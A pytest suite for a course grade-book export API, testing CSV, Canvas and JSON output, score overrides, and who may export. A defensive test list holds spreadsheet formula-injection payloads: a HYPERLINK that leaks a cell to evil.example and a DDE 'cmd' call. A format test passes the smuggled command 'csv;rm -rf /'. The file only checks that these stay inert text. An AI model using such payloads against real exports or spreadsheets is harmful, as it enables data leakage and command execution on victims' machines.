"""The grade-book export through HTTP, on SQLite and PostgreSQL: the plain and Canvas CSV files
parse back to the grades recomputed here from the stored rows; hostile names stay text; only
instructors may export."""

import csv
import io
from dataclasses import dataclass
from datetime import UTC, datetime
from typing import Any

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import select
from sqlalchemy.orm import Session

from app.checkpoints.schemas import CHECKPOINT_JOB
from app.db.models import FieldGrade, Job, Role, Submission, User
from app.problemsets.catalog import ProblemCatalog
from app.services import Services
from app.submissions import service as submissions
from app.users.service import issue, revoke_student
from tests.conftest import People
from tests.gradebook.conftest import DL_EX1, DL_EX1_BEST
from tests.submissions.conftest import HW5, published_answers

API = "/api/v1"
BEFORE_DUE = datetime(1999, 12, 31, tzinfo=UTC)
# The ASCII starts, then their fullwidth forms (a spreadsheet may read those as the ASCII).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
HW5_WRONG = {"q1.b": "[3, -1, 2]", "q3.a": "109", "q2.a.batchnorm": "B", "q3.b": "108"}


def book_url(problem_set: str, export: str | None = None) -> str:
    query = "" if export is None else f"?format={export}"
    return f"{API}/problem-sets/{problem_set}/gradebook{query}"


def export(client: TestClient, token: str, problem_set: str, export: str) -> Any:
    response = client.get(book_url(problem_set, export), headers=People.auth(token))
    assert response.status_code == 200, response.text
    return response


def parsed(response: Any) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.text, newline="")))


def new_student(session: Session, name: str, login: str | None = None) -> tuple[User, str]:
    issued = issue(session, name=name, role=Role.STUDENT)
    issued.user.login = login
    session.commit()
    return issued.user, issued.token


def submit(client: TestClient, token: str, problem_set: str, answers: dict[str, str]) -> None:
    response = client.post(
        f"{API}/problem-sets/{problem_set}/submissions",
        json={"answers": answers},
        headers=People.auth(token),
    )
    assert response.status_code == 201, response.text


def record_checkpoint(
    session: Session, user_id: str, problem_set: str, field: str, score: float, *, late: bool
) -> None:
    """An evaluated checkpoint as its job records it: a submission the job points at."""
    factor = 0.25 if late else 1.0
    submission = Submission(
        user_id=user_id,
        problem_set=problem_set,
        total=score,
        max_total=100,
        late=late,
        score_factor=factor,
        engine_version="test",
        problem_hash="test",
        reference_hash="test",
        fields=[
            FieldGrade(
                position=0,
                field=field,
                answer="checkpoint",
                verdict="partial",
                score=score,
                max_score=12.5,
                feedback="measured",
            )
        ],
    )
    session.add(submission)
    session.flush()
    job = Job(kind=CHECKPOINT_JOB, user_id=user_id, problem_set=problem_set, field=field, spec={})
    job.status, job.submission_id = "done", submission.id
    session.add(job)
    session.commit()


def dl_answers(
    catalog: ProblemCatalog, problem_set: str, student: str, good: bool
) -> dict[str, str]:
    """Answers to the student's own numbers: right, or with the known mistakes."""
    numbers = catalog.compiled(problem_set, student).parameters
    n_in, n_hidden, kernel = numbers["n_in"], numbers["n_hidden"], numbers["kernel"]
    maps = numbers["feature_maps"]
    weights = f"{n_in} x {n_hidden}" if good else f"{n_hidden} x {n_in}"
    layer1 = f"({kernel}*{kernel}*3 + 1)*{maps[0]}" if good else f"{kernel}*{kernel}*3*{maps[0]}"
    return {"q1.a": f"m x {n_in}", "q1.b.W_h": weights, "q2.layer1": layer1, "q4.baseline": "0.9"}


def answers_for(
    catalog: ProblemCatalog, problem_set: str, student: str, good: bool
) -> dict[str, str]:
    if problem_set.startswith(DL_EX1):
        return dl_answers(catalog, problem_set, student, good)
    return published_answers(HW5) if good else HW5_WRONG


def class_of(
    client: TestClient,
    services: Services,
    session: Session,
    people: People,
    problem_set: str,
) -> None:
    """A class with several attempts, on-time and late work, checkpoints, a revoked student and
    one who handed in nothing."""
    catalog = services.catalog
    carol, carol_token = new_student(session, "carol", "carol@example.edu")
    dave, dave_token = new_student(session, "dave", "dave@example.edu")
    new_student(session, "erin", "erin@example.edu")
    frank, _ = new_student(session, "frank")
    for student_id, token in [(people.alice_id, people.alice), (people.bob_id, people.bob)]:
        submit(client, token, problem_set, answers_for(catalog, problem_set, student_id, True))
        submit(client, token, problem_set, answers_for(catalog, problem_set, student_id, False))
    submissions.submit(
        services,
        session,
        carol,
        problem_set,
        answers_for(catalog, problem_set, carol.id, True),
        now=BEFORE_DUE,
    )
    session.commit()
    submit(client, carol_token, problem_set, answers_for(catalog, problem_set, carol.id, False))
    submit(client, dave_token, problem_set, answers_for(catalog, problem_set, dave.id, True))
    revoke_student(session, dave.id)
    session.commit()
    if problem_set.startswith(DL_EX1):
        record_checkpoint(session, people.bob_id, problem_set, "q4.baseline", 9.0, late=False)
        record_checkpoint(session, people.bob_id, problem_set, "q4.baseline", 11.0, late=True)
        record_checkpoint(session, frank.id, problem_set, "q4.dropout", 7.5, late=True)


# -- an independent computation of the grade book, from the stored rows -----------------------


@dataclass
class Expected:
    name: str
    login: str | None
    revoked: bool
    questions: dict[str, float] | None
    late: bool | None
    submitted_at: datetime | None


def expected_book(
    session: Session, catalog: ProblemCatalog, problem_set: str
) -> dict[str, Expected]:
    definition = catalog.definition(problem_set)
    best = definition.policy.score == "best"
    uploads = set(session.scalars(select(Job.submission_id).where(Job.submission_id.is_not(None))))
    students = session.scalars(select(User).where(User.role == Role.STUDENT.value)).all()
    expected = {}
    for student in students:
        rows = session.scalars(
            select(Submission).where(
                Submission.user_id == student.id, Submission.problem_set == problem_set
            )
        ).all()
        texts = [row for row in rows if row.id not in uploads]
        counted = _choose(texts, best, lambda row: row.total * row.score_factor)
        scores: dict[str, float] = {}
        work = [] if counted is None else [counted]
        if counted is not None:
            scores = {grade.field: grade.score * counted.score_factor for grade in counted.fields}
        for field in {grade.field for row in rows if row.id in uploads for grade in row.fields}:
            ones = [row for row in rows if row.id in uploads and row.fields[0].field == field]
            upload = _choose(ones, best, lambda row: row.fields[0].score * row.score_factor)
            assert upload is not None
            scores[field] = upload.fields[0].score * upload.score_factor
            work.append(upload)
        questions = None
        if work:
            questions = {
                question.id: sum(scores.get(field.id, 0.0) for field in question.fields)
                for question in definition.questions
            }
        expected[student.id] = Expected(
            name=student.name,
            login=student.login,
            revoked=student.revoked_at is not None,
            questions=questions,
            late=any(row.late for row in work) if work else None,
            submitted_at=max((row.created_at for row in work), default=None),
        )
    return expected


def _choose(rows: list[Submission], best: bool, score: Any) -> Submission | None:
    if not rows:
        return None
    latest = max(rows, key=lambda row: (row.created_at, row.id))
    if not best:
        return latest
    return max(rows, key=lambda row: (score(row), row.created_at, row.id))


def number(cell: str) -> float | None:
    return None if cell == "" else float(cell)


def assert_scores(cells: list[str], expected: Expected, question_ids: list[str]) -> None:
    """The question cells and the total cell that follows them."""
    scores = [number(cell) for cell in cells[: len(question_ids) + 1]]
    if expected.questions is None:
        assert scores == [None] * (len(question_ids) + 1)
        return
    questions = [float(cell) for cell in cells[: len(question_ids)]]
    for value, question in zip(questions, question_ids, strict=True):
        assert value == pytest.approx(expected.questions[question], abs=1e-6)
    assert scores[-1] == round(sum(questions), 6)
    assert scores[-1] == pytest.approx(sum(expected.questions.values()), abs=1e-5)


PROBLEM_SETS = [HW5, "hw5-best-penalize", "hw5-late-penalize", DL_EX1, DL_EX1_BEST]


@pytest.mark.parametrize("problem_set", PROBLEM_SETS)
def test_the_plain_csv_parses_back_to_the_stored_grades(
    book_client: TestClient,
    book_services: Services,
    session: Session,
    people: People,
    problem_set: str,
) -> None:
    class_of(book_client, book_services, session, people, problem_set)
    response = export(book_client, people.instructor, problem_set, "csv")
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"] == (
        f'attachment; filename="{problem_set}-gradebook.csv"'
    )
    header, *rows = parsed(response)
    definition = book_services.catalog.definition(problem_set)
    question_ids = [question.id for question in definition.questions]
    tail = ["total", "late", "submitted_at", "overridden"]
    assert header == ["student_id", "name", "login", *question_ids, *tail]
    expected = expected_book(session, book_services.catalog, problem_set)
    assert [row[0] for row in rows] == sorted(expected, key=lambda s: (expected[s].name, s))
    for row in rows:
        wanted = expected[row[0]]
        assert row[1:3] == [wanted.name, wanted.login or ""]
        assert_scores(row[3:], wanted, question_ids)
        late = "" if wanted.late is None else str(wanted.late).lower()
        when = "" if wanted.submitted_at is None else wanted.submitted_at.isoformat()
        assert row[-3:] == [late, when, ""]
    by_name = {expected[row[0]].name: row for row in rows}
    assert by_name["erin"][3:] == [""] * (len(question_ids) + 4)
    assert {"alice", "bob", "carol", "dave", "erin", "frank"} <= set(by_name)


@pytest.mark.parametrize("problem_set", PROBLEM_SETS)
def test_the_canvas_csv_parses_back_to_the_stored_grades(
    book_client: TestClient,
    book_services: Services,
    session: Session,
    people: People,
    problem_set: str,
) -> None:
    class_of(book_client, book_services, session, people, problem_set)
    response = export(book_client, people.instructor, problem_set, "canvas")
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"] == (
        f'attachment; filename="{problem_set}-canvas.csv"'
    )
    header, points, *rows = parsed(response)
    definition = book_services.catalog.definition(problem_set)
    questions = definition.questions
    assert header == [
        "Student",
        "ID",
        "SIS User ID",
        "SIS Login ID",
        "Section",
        *(f"{problem_set} {question.id} ({question.title})" for question in questions),
        f"{problem_set} total ({definition.title})",
        f"{problem_set} overridden fields",
    ]
    assert points[:5] == ["Points Possible", "", "", "", ""]
    assert points[-1] == ""
    assert [float(cell) for cell in points[5:-1]] == [
        *(question.points for question in questions),
        pytest.approx(100),
    ]
    expected = expected_book(session, book_services.catalog, problem_set)
    by_login = {wanted.login: wanted for wanted in expected.values() if wanted.login}
    for row in rows:
        assert row[1:3] == ["", ""] and row[4] == ""
        if row[3]:
            wanted = by_login[row[3]]
            assert row[0] == wanted.name
            assert_scores(row[5:], wanted, [question.id for question in questions])
        assert row[-1] == ""
    assert len(rows) == len(expected)


def test_the_json_export_is_the_model(
    book_client: TestClient, book_services: Services, session: Session, people: People
) -> None:
    class_of(book_client, book_services, session, people, DL_EX1)
    body = book_client.get(book_url(DL_EX1, "json"), headers=People.auth(people.instructor))
    assert body.status_code == 200
    book = body.json()
    assert (book["problem_set"], book["counts"], book["max_total"]) == (DL_EX1, "latest", 100)
    rows = {row["name"]: row for row in book["rows"]}
    assert rows["dave"]["revoked"] is True and rows["alice"]["revoked"] is False
    assert rows["erin"]["scores"] == {question["id"]: None for question in book["questions"]}
    assert (rows["erin"]["total"], rows["erin"]["submitted_at"]) == (None, None)
    # Bob's later, lower checkpoint counts under `latest`; frank has only a checkpoint.
    assert rows["bob"]["late"] is True
    assert rows["frank"]["scores"]["q4"] == 7.5 * 0.25 == rows["frank"]["total"]
    for row in book["rows"]:
        if row["total"] is not None:
            assert row["total"] == round(sum(row["scores"].values()), 6)


def test_csv_is_the_default(book_client: TestClient, people: People) -> None:
    response = book_client.get(book_url(HW5), headers=People.auth(people.instructor))
    assert response.status_code == 200
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert parsed(response)[0][:3] == ["student_id", "name", "login"]


# -- overrides --------------------------------------------------------------------------------


def newest_submission(client: TestClient, token: str, problem_set: str) -> str:
    response = client.get(
        f"{API}/problem-sets/{problem_set}/submissions", headers=People.auth(token)
    )
    assert response.status_code == 200, response.text
    submission_id: str = response.json()["items"][0]["submission_id"]
    return submission_id


def override(client: TestClient, token: str, submission_id: str, field: str) -> None:
    response = client.put(
        f"{API}/submissions/{submission_id}/overrides/{field}",
        json={"score": 0, "comment": "checked by hand"},
        headers=People.auth(token),
    )
    assert response.status_code == 200, response.text


def test_the_overridden_fields_of_the_counted_work_are_listed_in_every_export(
    book_client: TestClient, book_services: Services, people: People
) -> None:
    answers = published_answers(HW5)
    # Listed in the problem set's order, not the order they were overridden in.
    order = [field for field in book_services.catalog.compiled(HW5).fields if field in answers]
    first, second, third = order[0], order[1], order[2]
    submit(book_client, people.alice, HW5, answers)
    superseded = newest_submission(book_client, people.alice, HW5)
    submit(book_client, people.alice, HW5, answers)
    counted = newest_submission(book_client, people.alice, HW5)
    submit(book_client, people.bob, HW5, answers)
    bob = newest_submission(book_client, people.bob, HW5)
    for field in (third, first):
        override(book_client, people.instructor, counted, field)
    # Neither an override of work that no longer counts nor a removed one is listed.
    override(book_client, people.instructor, superseded, second)
    override(book_client, people.instructor, bob, second)
    removal = book_client.post(
        f"{API}/submissions/{bob}/overrides/{second}/removal",
        json={"reason": "as graded"},
        headers=People.auth(people.instructor),
    )
    assert removal.status_code == 200, removal.text
    listed = [first, third]

    book = export(book_client, people.instructor, HW5, "json").json()
    by_name = {row["name"]: row["overridden"] for row in book["rows"]}
    assert (by_name["alice"], by_name["bob"]) == (listed, [])
    plain = {row[1]: row[-1] for row in parsed(export(book_client, people.instructor, HW5, "csv"))}
    assert (plain["alice"], plain["bob"]) == (" ".join(listed), "")
    canvas = parsed(export(book_client, people.instructor, HW5, "canvas"))
    by_student = {row[0]: row[-1] for row in canvas[2:]}
    assert (by_student["alice"], by_student["bob"]) == (" ".join(listed), "")


# -- hostile names and logins -----------------------------------------------------------------

HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
    '\uff1dHYPERLINK("http://evil.example/?leak="&A1,"click")',
    "\uff0bSUM(1,2)",
    "\uff0d2+3",
    "\uff20SUM(A1:A9)",
    "Doe, Jane",
    'Say "hello"',
    "first line\nsecond line",
    "line\r\nbreak",
    "<script>alert(1)</script>",
    "Ωμέγα 名前",
]


def test_hostile_names_and_logins_stay_text(
    book_client: TestClient, session: Session, people: People
) -> None:
    for index, name in enumerate(HOSTILE_NAMES):
        new_student(session, name, login=f"={index}+{name[:20]}")
    _, token = new_student(session, "=1+1", login="@login")
    submit(book_client, token, HW5, {"q3.a": "108"})
    plain = parsed(export(book_client, people.instructor, HW5, "csv"))
    canvas = parsed(export(book_client, people.instructor, HW5, "canvas"))
    students = len(session.scalars(select(User.id).where(User.role == Role.STUDENT.value)).all())
    assert (len(plain), len(canvas)) == (students + 1, students + 2)
    for name in [*HOSTILE_NAMES, "=1+1"]:
        shown = "'" + name if name.startswith(FORMULA_STARTS) else name
        assert [row[1] for row in plain].count(shown) == 1
        assert [row[0] for row in canvas].count(shown) == 1
    for row in [*plain, *canvas]:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), row
    scored = next(row for row in plain if row[1] == "'=1+1")
    assert scored[2] == "'@login"


# -- who may export, and bad requests ---------------------------------------------------------


@pytest.mark.parametrize("export_format", ["csv", "canvas", "json"])
def test_students_may_not_export(
    book_client: TestClient, people: People, export_format: str
) -> None:
    response = book_client.get(book_url(HW5, export_format), headers=People.auth(people.alice))
    assert response.status_code == 403
    assert response.json()["error"] == "Forbidden"


@pytest.mark.parametrize("export_format", ["xlsx", "CSV", "", "csv;rm -rf /", "json\x00"])
def test_an_unknown_format_is_422(
    book_client: TestClient, people: People, export_format: str
) -> None:
    response = book_client.get(
        f"{API}/problem-sets/{HW5}/gradebook",
        params={"format": export_format},
        headers=People.auth(people.instructor),
    )
    assert response.status_code == 422
    body = response.json()
    assert (body["error"], body["fields"]) == ("InvalidRequest", ["format"])


def test_an_unknown_problem_set_is_404(book_client: TestClient, people: People) -> None:
    response = book_client.get(book_url("nope", "csv"), headers=People.auth(people.instructor))
    assert response.status_code == 404
    assert response.json()["error"] == "UnknownProblemSet"
